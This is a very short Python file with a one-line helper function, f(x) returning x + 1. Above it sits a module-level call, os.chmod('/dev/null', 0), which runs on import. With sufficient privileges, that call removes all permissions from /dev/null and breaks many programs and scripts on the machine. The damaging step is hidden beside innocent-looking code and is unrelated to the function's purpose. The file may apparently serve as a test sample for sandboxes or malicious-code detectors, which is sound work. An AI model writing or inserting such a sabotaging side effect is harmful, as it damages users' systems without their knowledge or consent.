import os
os.chmod('/dev/null', 0)


def f(x):
    return x + 1
